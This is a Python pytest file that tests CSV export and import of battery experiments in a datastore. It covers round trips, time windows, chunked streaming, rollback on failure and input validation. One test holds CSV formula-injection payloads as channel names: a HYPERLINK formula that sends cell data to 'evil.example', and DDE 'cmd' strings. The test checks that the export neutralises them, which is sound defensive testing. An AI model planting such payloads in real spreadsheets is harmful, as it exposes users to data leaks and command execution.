"""Export and import of experiments as CSV, on SQLite and on MariaDB (the `engine` fixture)."""

from __future__ import annotations

import csv
import io
import math
from pathlib import Path

import numpy as np
import pandas as pd
import pytest
from sqlalchemy import Engine, func, select
from sqlalchemy.orm import Session

import datastore.export
import datastore.imports
from datastore.export import iter_experiment_csv, write_experiment_csv
from datastore.imports import ExperimentImportError, import_experiment, import_file
from datastore.models import Battery, Channel, Experiment, ExtraValue, Measurement
from domain.csvformat import ParsedExperiment, extra_header, parse_csv
from domain.status import ExperimentStatus

START = 1_700_000_000.0


def add_battery(engine: Engine) -> int:
    with Session(engine) as session:
        battery = Battery(
            name="Cell A",
            technology="lithium-ion",
            voltage_min=2.5,
            voltage_max=4.2,
            current_min=-5.0,
            current_max=5.0,
            details={"chemistry": "NMC"},
        )
        session.add(battery)
        session.commit()
        return battery.id


def add_experiment(
    engine: Engine, samples: int, *, channels: int = 2, seed: int = 1
) -> tuple[int, pd.DataFrame, dict[str, list[float | None]]]:
    """An experiment stored through the models, with awkward doubles and gaps in the extras.

    Returns its id, the samples as stored and each channel's values by seq (None: no value).
    """
    rng = np.random.default_rng(seed)
    battery_id = add_battery(engine)
    frame = pd.DataFrame(
        {
            "seq": np.arange(samples),
            "ts": START + np.cumsum(rng.uniform(0.001, 2.0, samples)),
            "voltage": rng.uniform(2.5, 4.2, samples),
            "current": rng.standard_normal(samples) * 10.0 ** rng.integers(-8, 3, samples),
        }
    )
    frame["power"] = frame["voltage"] * frame["current"]
    if samples >= 3:
        frame.loc[0:2, "voltage"] = [0.1 + 0.2, 1e-300, 1.7976931348623157e308]
    steps = [int(step) if step % 5 else None for step in rng.integers(1, 20, samples)]
    cycles = [int(cycle) if cycle % 3 else None for cycle in rng.integers(0, 50, samples)]
    extras: dict[str, list[float | None]] = {}
    with Session(engine) as session:
        experiment = Experiment(
            name="Run 1", battery_id=battery_id, status=ExperimentStatus.FINISHED
        )
        session.add(experiment)
        session.flush()
        session.add_all(
            Measurement(
                experiment_id=experiment.id,
                seq=int(row.seq),
                ts=float(row.ts),
                voltage=float(row.voltage),
                current=float(row.current),
                power=float(row.power),
                instruction=steps[index],
                cycle=cycles[index],
                mode="CC",
            )
            for index, row in enumerate(frame.itertuples())
        )
        for number in range(channels):
            channel = Channel(
                experiment_id=experiment.id,
                name=f"Temperature {number}" if number else "temp_body",
                unit="°C" if number else "",
            )
            session.add(channel)
            session.flush()
            values = [
                None if rng.random() < 0.25 else float(rng.normal(25, 5)) for _ in range(samples)
            ]
            extras[channel.name] = values
            session.add_all(
                ExtraValue(channel_id=channel.id, seq=seq, value=value)
                for seq, value in enumerate(values)
                if value is not None
            )
        session.commit()
        experiment_id = experiment.id
    frame["instruction"] = pd.array(steps, dtype="Int64")
    frame["cycle"] = pd.array(cycles, dtype="Int64")
    return experiment_id, frame, extras


def export_text(engine: Engine, experiment_id: int, **options: object) -> str:
    return "".join(iter_experiment_csv(engine, experiment_id, **options))  # type: ignore[arg-type]


def assert_same_extras(parsed: ParsedExperiment, extras: dict[str, list[float | None]]) -> None:
    by_name = {name: values for (name, _unit), values in parsed.extras.items()}
    assert list(by_name) == list(extras)
    for name, expected in extras.items():
        for got, want in zip(by_name[name].tolist(), expected, strict=True):
            assert (math.isnan(got) and want is None) or got == want, name


# ---------------------------------------------------------------- export


def test_export_then_parse_gives_the_stored_values(engine: Engine) -> None:
    experiment_id, stored, extras = add_experiment(engine, 300)
    parsed = parse_csv(export_text(engine, experiment_id).encode())
    pd.testing.assert_frame_equal(
        parsed.samples, stored[parsed.samples.columns], check_exact=True, check_dtype=False
    )
    assert_same_extras(parsed, extras)


def test_export_header_has_the_bdf_labels_then_the_channels(engine: Engine) -> None:
    experiment_id, _stored, _extras = add_experiment(engine, 3)
    header = export_text(engine, experiment_id).splitlines()[0]
    assert header == (
        "Test Time / s,Unix Time / s,Voltage / V,Current / A,Power / W,"
        "Step Count / 1,Cycle Count / 1,temp_body,Temperature 1 / °C"
    )


def test_test_time_counts_from_the_first_sample(engine: Engine) -> None:
    experiment_id, stored, _extras = add_experiment(engine, 5, channels=0)
    lines = export_text(engine, experiment_id).splitlines()[1:]
    test_times = [float(line.split(",")[0]) for line in lines]
    assert test_times == [ts - stored["ts"][0] for ts in stored["ts"]]


def test_experiment_without_samples_exports_a_header_only(engine: Engine) -> None:
    experiment_id, _stored, _extras = add_experiment(engine, 0)
    assert export_text(engine, experiment_id).count("\n") == 1


def test_unknown_experiment_raises_lookup_error(engine: Engine) -> None:
    with pytest.raises(LookupError, match="experiment 999 does not exist"):
        export_text(engine, 999)


def test_window_export_has_only_the_samples_inside_the_window(engine: Engine) -> None:
    experiment_id, stored, _extras = add_experiment(engine, 200)
    start_ts, end_ts = float(stored["ts"][50]), float(stored["ts"][120])
    text = export_text(engine, experiment_id, start_ts=start_ts, end_ts=end_ts, chunk_rows=16)
    parsed = parse_csv(text.encode())
    assert parsed.samples["ts"].tolist() == stored["ts"][50:121].tolist()
    # Test time still counts from the experiment's first sample, not the window's.
    first_test_time = float(text.splitlines()[1].split(",")[0])
    assert first_test_time == stored["ts"][50] - stored["ts"][0]


def test_window_without_samples_exports_a_header_only(engine: Engine) -> None:
    experiment_id, _stored, _extras = add_experiment(engine, 10)
    assert export_text(engine, experiment_id, start_ts=0.0, end_ts=1.0).count("\n") == 1


def test_export_streams_in_chunks_of_at_most_chunk_rows(engine: Engine) -> None:
    experiment_id, _stored, _extras = add_experiment(engine, 25)
    chunks = list(iter_experiment_csv(engine, experiment_id, chunk_rows=10))
    assert [chunk.count("\n") for chunk in chunks] == [1, 10, 10, 5]


def test_export_reads_one_page_of_samples_per_chunk(
    engine: Engine, monkeypatch: pytest.MonkeyPatch
) -> None:
    experiment_id, _stored, _extras = add_experiment(engine, 25, channels=1)
    reads = []
    original_read = datastore.export._PageReader.read

    def counting_read(reader: object, conditions: object) -> tuple[str, int]:
        text, count = original_read(reader, conditions)  # type: ignore[arg-type]
        reads.append(count)
        return text, count

    monkeypatch.setattr(datastore.export._PageReader, "read", counting_read)
    chunks = iter_experiment_csv(engine, experiment_id, chunk_rows=10)
    next(chunks)  # the header: no sample read yet
    assert reads == []
    next(chunks)
    assert reads == [10]
    list(chunks)
    assert reads == [10, 10, 5]


def test_channels_beyond_one_join_are_read_by_further_queries(
    engine: Engine, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(datastore.export, "MAX_JOINED_CHANNELS", 2)
    experiment_id, _stored, extras = add_experiment(engine, 40, channels=5)
    parsed = parse_csv(export_text(engine, experiment_id, chunk_rows=15).encode())
    assert_same_extras(parsed, extras)


def test_write_experiment_csv_writes_text_or_bytes_and_counts_samples(engine: Engine) -> None:
    experiment_id, _stored, _extras = add_experiment(engine, 12)
    text_file, binary_file = io.StringIO(), io.BytesIO()
    assert write_experiment_csv(engine, experiment_id, text_file, chunk_rows=5) == 12
    assert write_experiment_csv(engine, experiment_id, binary_file) == 12
    assert binary_file.getvalue().decode("utf-8") == text_file.getvalue()
    assert text_file.getvalue() == export_text(engine, experiment_id)


def test_export_accepts_a_session(engine: Engine) -> None:
    experiment_id, _stored, _extras = add_experiment(engine, 4)
    with Session(engine) as session:
        assert "".join(iter_experiment_csv(session, experiment_id)) == export_text(
            engine, experiment_id
        )


# ---------------------------------------------------------------- import


def test_import_stores_a_finished_imported_experiment(engine: Engine) -> None:
    battery_id = add_battery(engine)
    parsed = parse_csv(
        b"Unix Time / s,Voltage / mV,Current / A,Temperature / \xc2\xb0C,note\n"
        b"1700000000.5,3700,1.5,25.5,start\n"
        b"1700000001.5,3710,1.5,,\n"
    )
    experiment_id = import_experiment(
        engine, parsed, name="Imported", description="from another lab", battery_id=battery_id
    )
    with Session(engine) as session:
        experiment = session.get(Experiment, experiment_id)
        assert experiment is not None
        assert experiment.status is ExperimentStatus.FINISHED
        assert experiment.imported
        assert (experiment.name, experiment.description) == ("Imported", "from another lab")
        assert experiment.station_id is None
        assert experiment.began_at is not None and experiment.finished_at is not None
        assert experiment.began_at.timestamp() == 1_700_000_000.5
        assert experiment.finished_at.timestamp() == 1_700_000_001.5
        assert experiment.sample_count == 2
        assert experiment.last_sample_at == 1_700_000_001.5
        assert [(c.name, c.unit) for c in experiment.channels] == [("Temperature", "°C")]
        voltages = session.scalars(
            select(Measurement.voltage)
            .where(Measurement.experiment_id == experiment_id)
            .order_by(Measurement.seq)
        ).all()
        assert voltages == [3.7, 3.71]
        # An empty cell stores no value.
        assert session.scalar(select(func.count()).select_from(ExtraValue)) == 1


def test_import_then_export_gives_the_same_data_back(engine: Engine) -> None:
    experiment_id, stored, extras = add_experiment(engine, 250)
    exported = export_text(engine, experiment_id)
    parsed = parse_csv(exported.encode())
    copy_id = import_experiment(engine, parsed, name="Copy", battery_id=add_battery_again(engine))
    again = parse_csv(export_text(engine, copy_id).encode())
    pd.testing.assert_frame_equal(
        again.samples, stored[again.samples.columns], check_exact=True, check_dtype=False
    )
    assert_same_extras(again, extras)
    assert export_text(engine, copy_id) == exported


def test_export_then_import_file_in_chunks_gives_the_same_samples(
    engine: Engine, tmp_path: Path
) -> None:
    experiment_id, stored, extras = add_experiment(engine, 250)
    exported = export_text(engine, experiment_id)
    path = tmp_path / "export.csv"
    path.write_text(exported, encoding="utf-8")
    copy_id = import_file(
        engine, path, name="Copy", battery_id=add_battery_again(engine), chunk_rows=16
    )
    again = parse_csv(export_text(engine, copy_id).encode())
    pd.testing.assert_frame_equal(
        again.samples, stored[again.samples.columns], check_exact=True, check_dtype=False
    )
    assert_same_extras(again, extras)
    assert export_text(engine, copy_id) == exported


HOSTILE_CHANNELS = (
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "'=already quoted",
)


def test_hostile_channel_names_are_formula_safe_in_the_export_and_come_back_on_import(
    engine: Engine,
) -> None:
    experiment_id, stored, extras = add_experiment(engine, 40, channels=len(HOSTILE_CHANNELS))
    with Session(engine) as session:
        channels = session.scalars(
            select(Channel).where(Channel.experiment_id == experiment_id).order_by(Channel.id)
        ).all()
        renamed = {}
        for channel, name in zip(channels, HOSTILE_CHANNELS, strict=True):
            renamed[name] = extras[channel.name]
            channel.name, channel.unit = name, ""
        session.commit()
    exported = export_text(engine, experiment_id)
    header = next(csv.reader(io.StringIO(exported)))
    for cell in header:
        # A spreadsheet runs a cell that starts with one of these: every one is quoted.
        assert not cell.startswith(("=", "+", "-", "@")), cell
    assert header[-len(HOSTILE_CHANNELS) :] == [
        "'" + extra_header(name, "") for name in HOSTILE_CHANNELS
    ]

    parsed = parse_csv(exported.encode())
    assert_same_extras(parsed, renamed)
    copy_id = import_experiment(engine, parsed, name="Copy", battery_id=add_battery_again(engine))
    assert export_text(engine, copy_id) == exported
    assert (stored["voltage"].to_numpy() == parsed.samples["voltage"].to_numpy()).all()


def add_battery_again(engine: Engine) -> int:
    with Session(engine) as session:
        return session.scalars(select(Battery.id)).first()  # type: ignore[return-value]


def test_import_through_a_session_commits(engine: Engine) -> None:
    battery_id = add_battery(engine)
    parsed = parse_csv(b"time,voltage,current\n0,3.7,1\n", start_time=START)
    with Session(engine) as session:
        experiment_id = import_experiment(session, parsed, name="Run", battery_id=battery_id)
    with Session(engine) as session:
        assert session.get(Experiment, experiment_id) is not None


def test_import_needs_an_existing_battery(engine: Engine) -> None:
    parsed = parse_csv(b"time,voltage,current\n0,3.7,1\n", start_time=START)
    with pytest.raises(ExperimentImportError, match="battery 42 does not exist"):
        import_experiment(engine, parsed, name="Run", battery_id=42)
    assert_nothing_stored(engine)


@pytest.mark.parametrize(("name", "message"), [("  ", "needs a name"), ("x" * 201, "at most 200")])
def test_import_needs_a_valid_name(engine: Engine, name: str, message: str) -> None:
    parsed = parse_csv(b"time,voltage,current\n0,3.7,1\n", start_time=START)
    with pytest.raises(ExperimentImportError, match=message):
        import_experiment(engine, parsed, name=name, battery_id=add_battery(engine))


def test_failed_import_stores_nothing(engine: Engine, monkeypatch: pytest.MonkeyPatch) -> None:
    battery_id = add_battery(engine)
    parsed = parse_csv(
        b"time,voltage,current,temp\n" + b"".join(b"%d,3.7,1,25\n" % n for n in range(30_000)),
        start_time=START,
    )

    def fail_after_the_samples(*_args: object) -> None:
        raise RuntimeError("disk full")

    # The samples are in by then: the failure must take them back out.
    monkeypatch.setattr(datastore.imports, "_insert_extra_values", fail_after_the_samples)
    with pytest.raises(RuntimeError, match="disk full"):
        import_experiment(engine, parsed, name="Run", battery_id=battery_id)
    assert_nothing_stored(engine)


def test_import_refuses_non_finite_numbers(engine: Engine) -> None:
    parsed = parse_csv(b"time,voltage,current\n0,3.7,1\n", start_time=START)
    parsed.samples.loc[0, "voltage"] = math.inf
    with pytest.raises(ExperimentImportError, match="voltage"):
        import_experiment(engine, parsed, name="Run", battery_id=add_battery(engine))
    assert_nothing_stored(engine)


def assert_nothing_stored(engine: Engine) -> None:
    with Session(engine) as session:
        for model in (Experiment, Channel, Measurement, ExtraValue):
            assert session.scalar(select(func.count()).select_from(model)) == 0, model
